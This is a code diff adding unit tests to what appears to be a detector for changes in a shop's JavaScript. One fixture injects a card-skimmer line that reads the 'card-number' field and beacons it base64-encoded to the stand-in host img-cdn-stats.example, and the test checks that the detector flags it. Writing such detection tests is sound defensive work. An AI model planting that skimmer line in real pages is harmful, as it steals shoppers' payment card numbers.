@@ -105,3 +105,23 @@ describe('lookalike hosts', () => {
     assert.deepEqual(lookalikeFindings('js.stripe.com', ['shop.example', 'cdn.example']), []);
   });
 });
+
+describe('large scripts: the changed span alone', () => {
+  let bundle = '';
+  for (let i = 0; bundle.length < 100_000; i++) bundle += `function f${i}(a){return a+${i}};`;
+  bundle += 'fetch("https://api.shop.example/cart");';
+  it('finds what an insertion in the middle adds, and not what was already there', () => {
+    const middle = bundle.indexOf('function f500(');
+    const injected = `${bundle.slice(0, middle)}document.getElementById("card-number").addEventListener("change",function(e){new Image().src="https://img-cdn-stats.example/p?d="+btoa(e.target.value)});${bundle.slice(middle)}`;
+    const found = titles(change(injected, bundle));
+    assert.ok(found.includes('critical: skimmer pattern: reads form input and sends it out'), found.join('\n'));
+    assert.ok(found.some((t) => t.includes('img-cdn-stats.example')));
+    assert.ok(!found.some((t) => t.includes('api.shop.example')), 'a host the old version named is not new');
+  });
+  it('does not count an edit inside an existing call as a new send, but sees the new host', () => {
+    const edited = bundle.replace('https://api.shop.example/cart', 'https://api.shop-cart-sync.example/cart');
+    const found = titles(change(edited, bundle));
+    assert.ok(found.some((t) => t.startsWith('high: may send data to api.shop-cart-sync.example')), found.join('\n'));
+    assert.ok(!found.some((t) => t.includes('sends data with fetch')), found.join('\n'));
+  });
+});
